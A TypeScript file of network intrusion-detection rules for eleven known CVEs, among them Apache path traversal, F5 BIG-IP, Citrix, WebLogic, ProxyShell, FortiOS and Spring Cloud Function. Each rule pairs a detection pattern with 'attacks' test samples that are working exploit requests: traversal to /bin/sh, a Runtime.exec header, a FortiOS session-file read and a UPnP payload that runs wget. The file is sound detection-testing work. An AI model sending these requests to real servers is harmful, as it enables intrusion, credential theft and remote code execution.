import type { Rule } from '../rule.ts';
import { http, post } from '../traffic/http.ts';

const shared = {
  type: 'vulnerability',
  category: 'code-execution',
  severity: 'CRITICAL',
  on: 'http any any -> any any',
} as const;
const json = ['Content-Type: application/json'];

export const products: readonly Rule[] = [
  {
    ...shared,
    sid: 9_000_260,
    rev: 1,
    name: 'Apache HTTP Server Path Traversal Vulnerability',
    cves: ['CVE-2021-41773', 'CVE-2021-42013'],
    description:
      'A request climbs out of an aliased folder with encoded dots, which Apache 2.4.49 and 2.4.50 let pass; with CGI on, programs run. Update Apache.',
    references: ['https://nvd.nist.gov/vuln/detail/CVE-2021-41773'],
    match: [
      'flow:to_server',
      'http.uri.raw',
      'content:"%"; fast_pattern',
      String.raw`pcre:"/^\/(?:cgi-bin|icons|[\w\-]{1,32})\/(?:(?:\.%2e|%2e\.|%2e%2e|\.%%32%65|%%32%65%%32%65|%%32%65\.)\/){2,}/i"`,
    ],
    attacks: [
      http('to a shell', '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', { body: 'echo; id' }),
      http('icons', '/icons/.%2e/%2e%2e/%2e./conf/httpd.conf'),
      http('CVE-2021-42013', '/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh', { body: 'echo; id' }),
    ],
    benign: [http('one step', '/icons/%2e%2e/logo.png'), http('plain dots', '/cgi-bin/../../x')],
  },
  {
    ...shared,
    sid: 9_000_261,
    rev: 1,
    name: 'F5 BIG-IP TMUI Remote Code Execution Vulnerability',
    cves: ['CVE-2020-5902'],
    description:
      'A request passes the login of the BIG-IP management interface with a path that two parsers read differently.',
    match: [
      'flow:to_server',
      'http.uri.raw',
      'content:"/tmui/"; nocase; fast_pattern',
      String.raw`pcre:"/\/tmui\/[\w.\/]{1,64}\/(?:\.|%2e){2}(?:\x3b|%3b)\//i"`,
    ],
    attacks: [
      http('read', '/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/config/x'),
      http('encoded', '/tmui/login.jsp/%2e%2e%3b/tmui/locallb/workspace/tmshCmd.jsp?command=list'),
    ],
    benign: [http('the login page', '/tmui/login.jsp')],
  },
  {
    ...shared,
    sid: 9_000_262,
    rev: 1,
    name: 'Citrix ADC and Gateway Directory Traversal Vulnerability',
    cves: ['CVE-2019-19781'],
    description:
      'A request reaches the scripts of a Citrix gateway without a login. Update the gateway; look for files that it did not hold before.',
    match: [
      'flow:to_server',
      'http.uri.raw',
      'content:"/vpn"; nocase; fast_pattern',
      String.raw`pcre:"/\/vpn\/(?:(?:\.|%2e){2}|[\w]+\/(?:\.|%2e){2}\/(?:\.|%2e){2})\/vpns\//i"`,
    ],
    attacks: [
      http('read', '/vpn/../vpns/cfg/smb.conf'),
      http('write', '/vpn/../vpns/portal/scripts/newbm.pl', { body: 'url=x&title=y' }),
      http('encoded', '/vpn/%2e%2e/vpns/portal/x.xml'),
    ],
    benign: [
      http('the portal', '/vpn/index.html'),
      http('the scripts with a login', '/vpns/portal/scripts/picktheme.pl'),
    ],
  },
  {
    ...shared,
    sid: 9_000_263,
    rev: 1,
    name: 'Oracle WebLogic Console Remote Code Execution Vulnerability',
    cves: ['CVE-2020-14882', 'CVE-2020-14883'],
    description: 'A request reaches the WebLogic console without a login, through a path that is encoded twice.',
    match: [
      'flow:to_server',
      'http.uri.raw',
      'content:"/console/"; nocase; fast_pattern',
      String.raw`pcre:"/\/console\/(?:css|images|framework|bea-helpsets)\/(?:%252e%252e%252f|%2e%2e%2f|\.\.%2f|%252e%252e\/)\w*\.portal/i"`,
    ],
    attacks: [
      http('encoded twice', '/console/css/%252e%252e%252fconsole.portal?_nfpb=true'),
      http('upper case', '/console/images/%252E%252E%252Fconsole.portal', { body: 'handle=x' }),
    ],
    benign: [http('the console', '/console/login/LoginForm.jsp'), http('a style sheet', '/console/css/login.css')],
  },
  {
    ...shared,
    sid: 9_000_264,
    rev: 1,
    name: 'Microsoft Exchange Server ProxyShell Vulnerability',
    cves: ['CVE-2021-34473', 'CVE-2022-41040'],
    description: 'A request reaches the inner services of an Exchange server through the path of Autodiscover.',
    match: [
      'flow:to_server',
      'http.uri',
      'content:"/autodiscover"; nocase; fast_pattern',
      String.raw`pcre:"/\/autodiscover\/autodiscover\.json[^\r\n]{0,200}@[^\r\n]{0,200}(?:\/powershell|\/mapi\/nspi|\/ews\/|email=autodiscover)/i"`,
    ],
    attacks: [
      http(
        'mapi',
        '/autodiscover/autodiscover.json?@foo.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@foo.example',
      ),
      http('powershell', '/Autodiscover/autodiscover.json?a@foo.example/PowerShell?x=1'),
    ],
    benign: [http('an ordinary call', '/autodiscover/autodiscover.json?Email=a@example.com&Protocol=ActiveSync')],
  },
  {
    ...shared,
    sid: 9_000_265,
    rev: 1,
    severity: 'CRITICAL',
    name: 'Docker API Container Escape Request',
    description:
      'A request to an open Docker interface creates a container that sees the whole file system of the host, or is privileged. Close the interface.',
    match: [
      'flow:to_server',
      'http.method',
      'content:"POST"',
      'http.uri',
      'content:"/containers/create"; fast_pattern',
      'http.request_body',
      String.raw`pcre:"/\x22Binds\x22\s*:\s*\[[^\]]{0,300}\x22\/:\/|\x22Privileged\x22\s*:\s*true|\x22Source\x22\s*:\s*\x22\/\x22/i"`,
    ],
    attacks: [
      http('bind', '/v1.41/containers/create', {
        port: 2375,
        headers: json,
        body: '{"Image":"alpine","HostConfig":{"Binds":["/:/mnt"]}}',
      }),
      http('privileged', '/containers/create?name=x', {
        port: 2375,
        headers: json,
        body: '{"Image":"a","HostConfig":{"Privileged": true}}',
      }),
    ],
    benign: [
      http('an ordinary container', '/v1.41/containers/create', {
        port: 2375,
        headers: json,
        body: '{"Image":"nginx","HostConfig":{"Binds":["/srv/www:/usr/share/nginx/html"],"Privileged":false}}',
      }),
    ],
  },
  {
    ...shared,
    sid: 9_000_266,
    rev: 1,
    severity: 'HIGH',
    name: 'Apache HTTP Server mod_proxy SSRF Vulnerability',
    category: 'info-leak',
    cves: ['CVE-2021-40438'],
    description: 'An over-long request makes a proxying Apache send the request to another server. Update Apache.',
    match: [
      'flow:to_server',
      'http.uri',
      'content:"unix:"; nocase; fast_pattern',
      String.raw`pcre:"/\?unix:[^|]{200,}\|https?:\/\//i"`,
    ],
    attacks: [http('to another server', `/?unix:${'A'.repeat(600)}|http://10.9.9.9/x`)],
    benign: [http('the word', '/search?q=unix:history|http://example.com/')],
  },
  {
    ...shared,
    sid: 9_000_267,
    rev: 1,
    severity: 'HIGH',
    name: 'Fortinet FortiOS SSL VPN Directory Traversal Vulnerability',
    category: 'info-leak',
    cves: ['CVE-2018-13379'],
    description:
      'A request reads the session file of a FortiOS gateway, which holds names and passwords in clear. Update it and change the passwords.',
    match: [
      'flow:to_server',
      'http.uri',
      'content:"/remote/fgt_lang"; nocase; fast_pattern',
      String.raw`pcre:"/lang=[^&]*\/dev\/cmdb\/sslvpn_websession/i"`,
    ],
    attacks: [
      http('the session file', '/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession'),
      http('encoded', '/remote/fgt_lang?lang=%2f..%2f..%2f..%2f..%2f%2f%2f%2f%2fdev%2fcmdb%2fsslvpn_websession'),
    ],
    benign: [http('a language', '/remote/fgt_lang?lang=en')],
  },
  {
    ...shared,
    sid: 9_000_268,
    rev: 1,
    name: 'Spring Cloud Function SpEL Injection Vulnerability',
    cves: ['CVE-2022-22963'],
    description:
      'A header names the function to call as an expression that starts a program. Update Spring Cloud Function.',
    match: [
      'flow:to_server',
      'http.header',
      'content:"spring.cloud.function.routing-expression"; nocase; fast_pattern',
      String.raw`pcre:"/^spring\.cloud\.function\.routing-expression:[^\r\n]*(?:T\(|\.exec\(|ProcessBuilder)/mi"`,
    ],
    attacks: [
      http('exec', '/functionRouter', {
        body: 'x',
        headers: ['spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec("id")'],
      }),
    ],
    benign: [
      http('an ordinary route', '/functionRouter', {
        body: 'x',
        headers: ["spring.cloud.function.routing-expression: headers['type']"],
      }),
    ],
  },
  {
    ...shared,
    sid: 9_000_269,
    rev: 1,
    severity: 'HIGH',
    name: 'Microsoft IIS HTTP.sys Range Vulnerability',
    category: 'overflow',
    cves: ['CVE-2015-1635'],
    description:
      'A Range header near the largest 64-bit number, which crashes an old Windows web server or tells that it is vulnerable.',
    match: [
      'flow:to_server',
      'http.header',
      'content:"Range"; nocase',
      String.raw`pcre:"/^Range:\s*bytes\s*=\s*[^\r\n]*-\s*1844674407370955\d{4}/mi"`,
    ],
    attacks: [
      http('the probe', '/', { headers: ['Range: bytes=0-18446744073709551615'] }),
      http('the crash', '/iisstart.htm', { headers: ['Range: bytes=18-18446744073709551615'] }),
    ],
    benign: [http('a part of a file', '/big.iso', { headers: ['Range: bytes=0-1844674407'] })],
  },
  {
    ...shared,
    sid: 9_000_270,
    rev: 1,
    severity: 'HIGH',
    name: 'Realtek and UPnP SOAP Command Injection Vulnerability',
    cves: ['CVE-2014-8361'],
    description:
      'A port mapping request holds shell syntax, which routers with a Realtek UPnP service run. Worms send it; only those routers are concerned.',
    match: [
      'flow:to_server',
      'http.request_body',
      'content:"NewInternalClient"; fast_pattern',
      String.raw`pcre:"/<NewInternalClient>[^<]{0,300}(?:\`|\$\(|\x3b)/i"`,
    ],
    attacks: [
      post(
        'backticks',
        '/picsdesc.xml',
        '<u:AddPortMapping><NewInternalClient>`cd /tmp;wget http://10.9.9.9/a`</NewInternalClient></u:AddPortMapping>',
        ['Content-Type: text/xml'],
      ),
    ],
    benign: [
      post(
        'an ordinary mapping',
        '/picsdesc.xml',
        '<u:AddPortMapping><NewInternalClient>192.168.1.5</NewInternalClient></u:AddPortMapping>',
        ['Content-Type: text/xml'],
      ),
    ],
  },
];
